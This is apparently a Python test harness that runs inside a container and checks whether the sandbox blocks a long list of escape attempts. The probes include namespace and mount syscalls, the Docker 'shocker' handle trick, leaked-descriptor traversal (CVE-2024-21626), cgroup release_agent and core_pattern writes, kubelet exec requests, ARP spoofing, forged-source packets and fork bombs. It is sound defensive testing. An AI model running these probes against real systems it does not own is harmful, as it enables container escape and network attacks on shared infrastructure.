"""Attacks from inside a container. Runs on the standard library of any Python 3.9 or newer.

``inside.py NAME... [KEY=VALUE...]`` tries the named attacks, or all of them, and prints one JSON
object: the outcome of each. An outcome begins with ``refused``, ``harmless`` or ``ESCAPED``.
Nothing here does damage when it succeeds: files are opened and not written, commands of the kernel
get arguments that change nothing, and every loop is bounded.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import json
import os
import signal
import socket
import ssl
import struct
import sys
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
ATTACKS = {}
GIVEN = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


def call(number, *arguments):
    """``refused: EPERM``, or what the kernel did instead."""
    result = libc.syscall(
        ctypes.c_long(number),
        *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments],
    )
    if result < 0:
        return "refused: " + errno.errorcode[ctypes.get_errno()]
    return f"ESCAPED: system call {number} returned {result}"


def in_child(action):
    """The outcome of ``action``, in a process of its own so that nothing of it stays."""
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            text = action()
        except OSError as err:
            text = "refused: " + errno.errorcode.get(err.errno or 0, str(err))
        except BaseException as err:
            text = f"broken: {type(err).__name__}: {err}"
        os.write(write, text.encode())
        os._exit(0)
    os.close(write)
    with open(read, "rb") as pipe:
        text = pipe.read().decode()
    _, status = os.waitpid(child, 0)
    if os.WIFSIGNALED(status):
        return f"refused: killed by signal {os.WTERMSIG(status)}"
    return text


def opened(path, flags):
    """Whether ``path`` can be opened; it is closed again at once."""
    try:
        os.close(os.open(path, flags | os.O_NONBLOCK | os.O_CLOEXEC))
    except OSError as err:
        return "refused: " + errno.errorcode[err.errno]
    return f"ESCAPED: opened {path}"


def connected(family, address, wait_s=1.5):
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(wait_s)
        try:
            client.connect(address)
        except TimeoutError:
            return "refused: silent"
        except OSError as err:
            return "refused: " + errno.errorcode.get(err.errno or 0, str(err))
        with contextlib.suppress(OSError):
            return f"ESCAPED: {address[0]}:{address[1]} answered {client.recv(64)!r}"
        return f"ESCAPED: connected to {address[0]}:{address[1]}"


# System calls (x86-64 numbers) that lead out of a sandbox or into rarely used parts of the kernel.


@attack
def unshare_user_namespace():
    return in_child(lambda: call(272, 0x10000000))


@attack
def unshare_mount_namespace():
    return in_child(lambda: call(272, 0x00020000))


@attack
def unshare_network_namespace():
    return in_child(lambda: call(272, 0x40000000))


@attack
def clone_into_user_namespace():
    def clone():
        result = libc.syscall(ctypes.c_long(56), ctypes.c_long(0x10000000 | signal.SIGCHLD), 0, 0)
        if result == 0:
            os._exit(0)
        if result < 0:
            return "refused: " + errno.errorcode[ctypes.get_errno()]
        return "ESCAPED: a child in a new user namespace"

    return in_child(clone)


@attack
def setns_of_init():
    def enter():
        fd = os.open("/proc/1/ns/mnt", os.O_RDONLY)
        return call(308, fd, 0)

    return in_child(enter)


@attack
def mount_tmpfs():
    return in_child(lambda: call(165, b"none", b"/tmp", b"tmpfs", 0, b""))


@attack
def mount_cgroup_hierarchy():
    return in_child(lambda: call(165, b"none", b"/tmp", b"cgroup", 0, b"memory"))


@attack
def unmount_masked_path():
    return in_child(lambda: call(166, b"/proc/kcore", 2))


@attack
def new_mount_api():
    return in_child(lambda: call(430, b"tmpfs", 0))


@attack
def pivot_root():
    return in_child(lambda: call(155, b"/", b"/"))


@attack
def keyctl_session_keyring():
    return call(250, 0, -3, 1)


@attack
def add_key():
    return call(248, b"user", b"muntin-attack", b"x", 1, -1)


@attack
def io_uring_setup():
    parameters = ctypes.create_string_buffer(120)
    return call(425, 1, parameters)


@attack
def bpf_map():
    attributes = struct.pack("IIII", 2, 4, 4, 1) + bytes(104)
    return call(321, 0, attributes, len(attributes))


@attack
def perf_event():
    attributes = struct.pack("IIQ", 1, 112, 1) + bytes(96)
    return call(298, attributes, 0, -1, -1, 0)


@attack
def userfaultfd():
    return call(323, 0)


@attack
def open_by_handle():
    """Docker's "shocker": the root of the file system that ``/etc`` comes from, by inode 2."""
    handle = struct.pack("IiII", 8, 1, 2, 0)
    mount = os.open("/etc", os.O_RDONLY)
    try:
        return call(304, mount, handle, os.O_RDONLY)
    finally:
        os.close(mount)


@attack
def load_kernel_module():
    return call(313, -1, b"", 0)


@attack
def kexec():
    return call(246, 0, 0, 0, 0xFFFF)


@attack
def swap_on():
    return call(167, b"/nothing", 0)


@attack
def set_the_clock():
    return call(227, 0, struct.pack("qq", 0, -1))


@attack
def kernel_log():
    return call(103, 3, ctypes.create_string_buffer(64), 64)


@attack
def io_ports():
    return call(172, 3)


@attack
def vsock_socket():
    return call(41, 40, 1, 0)


@attack
def packet_socket():
    return call(41, 17, 3, socket.htons(3))


@attack
def make_disk_node():
    """A node of the host's first disk: making it may be allowed, opening it must not be."""
    path = "/tmp/disk-node"

    def make():
        with contextlib.suppress(FileNotFoundError):
            os.unlink(path)
        os.mknod(path, 0o600 | 0o060000, os.makedev(*map(int, GIVEN["disk"].split(":"))))
        try:
            return opened(path, os.O_RDONLY)
        finally:
            os.unlink(path)

    return in_child(make)


@attack
def make_memory_node():
    path = "/tmp/memory-node"

    def make():
        with contextlib.suppress(FileNotFoundError):
            os.unlink(path)
        os.mknod(path, 0o600 | 0o020000, os.makedev(1, 1))
        try:
            return opened(path, os.O_RDONLY)
        finally:
            os.unlink(path)

    return in_child(make)


# Files of the host.


def _marker(root):
    try:
        with open(root + GIVEN["marker"], encoding="ascii") as file:
            return "ESCAPED: read " + file.read(80)
    except OSError as err:
        return "refused: " + errno.errorcode[err.errno]


@attack
def root_of_init():
    return _marker("/proc/1/root")


@attack
def working_folder_of_init():
    return _marker("/proc/1/cwd/" + "../" * 16)


@attack
def descriptors_of_every_process():
    """Descriptors that a runtime left open lead to folders of the host (CVE-2024-21626)."""
    seen = 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            for fd in os.listdir(f"/proc/{pid}/fd"):
                seen += 1
                outcome = _marker(f"/proc/{pid}/fd/{fd}/" + "../" * 16)
                if outcome.startswith("ESCAPED"):
                    return outcome
    return f"harmless: {seen} descriptors lead nowhere"


@attack
def chroot_twice():
    def leave():
        os.makedirs("/tmp/jail", exist_ok=True)
        above = os.open("/", os.O_RDONLY)
        os.chroot("/tmp/jail")
        os.fchdir(above)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        return _marker("")

    return in_child(leave)


@attack
def core_pattern():
    return opened("/proc/sys/kernel/core_pattern", os.O_WRONLY)


@attack
def sysrq():
    return opened("/proc/sysrq-trigger", os.O_WRONLY)


@attack
def kernel_memory():
    for path in ("/dev/mem", "/dev/kmem", "/dev/port"):
        if opened(path, os.O_RDONLY).startswith("ESCAPED"):
            return f"ESCAPED: opened {path}"
    try:
        with open("/proc/kcore", "rb") as file:
            data = file.read(16)
    except OSError as err:
        return "refused: " + errno.errorcode[err.errno]
    return f"ESCAPED: kcore {data!r}" if data else "refused: empty"


@attack
def system_settings():
    for path in (
        "/proc/sys/vm/overcommit_memory",
        "/proc/sys/kernel/panic",
        "/proc/sys/fs/file-max",
        "/sys/kernel/uevent_helper",
        "/sys/kernel/mm/transparent_hugepage/enabled",
    ):
        outcome = opened(path, os.O_WRONLY)
        if outcome.startswith("ESCAPED"):
            return outcome
    return outcome


@attack
def cgroup_release_agent():
    tried = 0
    for folder, _, files in os.walk("/sys/fs/cgroup"):
        for name in files:
            if name in ("release_agent", "notify_on_release", "cgroup.procs", "memory.max",
                        "memory.limit_in_bytes", "devices.allow", "pids.max"):  # fmt: skip
                tried += 1
                outcome = opened(f"{folder}/{name}", os.O_WRONLY)
                if outcome.startswith("ESCAPED"):
                    return outcome
        if tried > 2000:
            break
    return f"refused: {tried} files are read-only"


@attack
def cgroup_path_of_the_host():
    """The path of the own cgroup names nothing of the host."""
    with open("/proc/self/cgroup", encoding="ascii") as file:
        text = file.read()
    return "ESCAPED: " + text if GIVEN["cluster"] in text else "refused: own cgroup namespace"


@attack
def runtime_sockets():
    places = ("/run/containerd/containerd.sock", "/var/run/docker.sock", "/run/muntin", "/var/lib")
    for place in places:
        for folder, _, files in os.walk(place):
            for name in files:
                if name.endswith(".sock"):
                    return f"ESCAPED: {folder}/{name}"
        if place.endswith(".sock") and os.path.exists(place):
            return f"ESCAPED: {place}"
    return "refused: no socket of a runtime"


@attack
def environment_of_others():
    """Only processes of the container are visible."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as file:
            words = file.read()
            for stranger in (b"containerd-shim", b"slirp4netns", b"muntin.cluster", b"supervisor"):
                if stranger in words:
                    return f"ESCAPED: sees {words[:200]!r}"
    return "refused: no process of others"


@attack
def signal_everyone():
    """Signal 0 to every process that can be signalled counts those of the container only."""
    own = {int(pid) for pid in os.listdir("/proc") if pid.isdigit()}
    reached = []
    for pid in range(1, 4096):
        with contextlib.suppress(OSError):
            os.kill(pid, 0)
            if pid not in own and not os.path.exists(f"/proc/{pid}"):
                reached.append(pid)
    tasks = {int(t) for pid in own for t in _tasks(pid)}
    strangers = [pid for pid in reached if pid not in tasks]
    return f"ESCAPED: signals reach {strangers[:5]}" if strangers else "refused: own processes only"


def _tasks(pid):
    with contextlib.suppress(OSError):
        return os.listdir(f"/proc/{pid}/task")
    return []


# Exhaustion.


@attack
def fork_bomb():
    """Processes until the kernel refuses, 3,000 at most; all of them end."""
    read, write = os.pipe()
    children = []
    try:
        for _ in range(3000):
            child = os.fork()
            if child == 0:
                os.close(write)
                os.read(read, 1)
                os._exit(0)
            children.append(child)
    except OSError as err:
        return f"refused: {errno.errorcode[err.errno]}"
    finally:
        os.close(write)
        for child in children:
            os.waitpid(child, 0)
    return f"ESCAPED: {len(children)} processes"


@attack
def thread_bomb():
    stop = threading.Event()
    threads = []
    threading.stack_size(65536)
    try:
        for _ in range(3000):
            thread = threading.Thread(target=stop.wait)
            thread.start()
            threads.append(thread)
    except RuntimeError:
        return "refused: EAGAIN"
    finally:
        stop.set()
        for thread in threads:
            thread.join()
    return f"ESCAPED: {len(threads)} threads"


# The network.


@attack
def host_loopback():
    """The test listens on the host's 127.0.0.1; a container's loopback is another one."""
    return connected(socket.AF_INET, ("127.0.0.1", int(GIVEN["port"])))


@attack
def host_loopback_of_the_relay():
    """slirp4netns can lead 10.0.2.2 to the host's loopback; this must be off."""
    return connected(socket.AF_INET, ("10.0.2.2", int(GIVEN["port"])))


@attack
def mapped_loopback():
    return connected(socket.AF_INET6, ("::ffff:127.0.0.1", int(GIVEN["port"])))


@attack
def abstract_sockets():
    """Abstract sockets belong to a network namespace: those of the host are not there."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        try:
            client.connect(b"\0" + GIVEN["abstract"].encode())
        except OSError as err:
            return "refused: " + errno.errorcode[err.errno]
    return "ESCAPED: connected"


def _kubelet(request):
    """The status line of the node's kubelet."""
    context = ssl._create_unverified_context()
    text = f"{request} HTTP/1.1\r\nHost: node\r\nConnection: close\r\n\r\n"
    with (
        socket.create_connection((GIVEN["node"], 10250), timeout=5) as raw,
        context.wrap_socket(raw) as secure,
    ):
        secure.sendall(text.encode())
        line = secure.recv(200).split(b"\r\n")[0].decode()
    return ("refused: " if " 401 " in line or " 403 " in line else "ESCAPED: ") + line


@attack
def kubelet_pods():
    return _kubelet("GET /pods")


@attack
def kubelet_exec():
    return _kubelet("POST /run/default/attacker/main?cmd=id")


@attack
def kubelet_read_only_port():
    return connected(socket.AF_INET, (GIVEN["node"], 10255))


@attack
def announce_another_address():
    """A reply of ARP in the name of a neighbour."""
    try:
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806)) as raw:
            for _, name in socket.if_nameindex():
                if name == "lo":
                    continue
                raw.bind((name, 0x0806))
                own = raw.getsockname()[4]
                victim = socket.inet_aton(GIVEN["neighbour"])
                body = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, own, victim, own, victim)
                raw.send(b"\xff" * 6 + own + struct.pack("!H", 0x0806) + body)
    except OSError as err:
        return "refused: " + errno.errorcode[err.errno]
    return "harmless: sent; the test looks at the neighbour"


@attack
def forge_a_source_address():
    """A UDP packet to a neighbour in the name of cluster DNS."""
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
            payload = b"forged"
            udp = struct.pack("!HHHH", 53, int(GIVEN["victim_port"]), 8 + len(payload), 0) + payload
            header = struct.pack(
                "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                socket.inet_aton(GIVEN["dns"]), socket.inet_aton(GIVEN["neighbour"]),
            )  # fmt: skip
            for _ in range(3):
                raw.sendto(header + udp, (GIVEN["neighbour"], 0))
                time.sleep(0.1)
    except OSError as err:
        return "refused: " + errno.errorcode[err.errno]
    return "harmless: sent; the test looks at the neighbour"


def main(words):
    GIVEN.update(word.split("=", 1) for word in words if "=" in word)
    names = [word for word in words if "=" not in word] or list(ATTACKS)
    outcomes = {}
    for name in names:
        try:
            outcomes[name] = ATTACKS[name]()
        except Exception as err:
            outcomes[name] = f"broken: {type(err).__name__}: {err}"
    print(json.dumps(outcomes), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
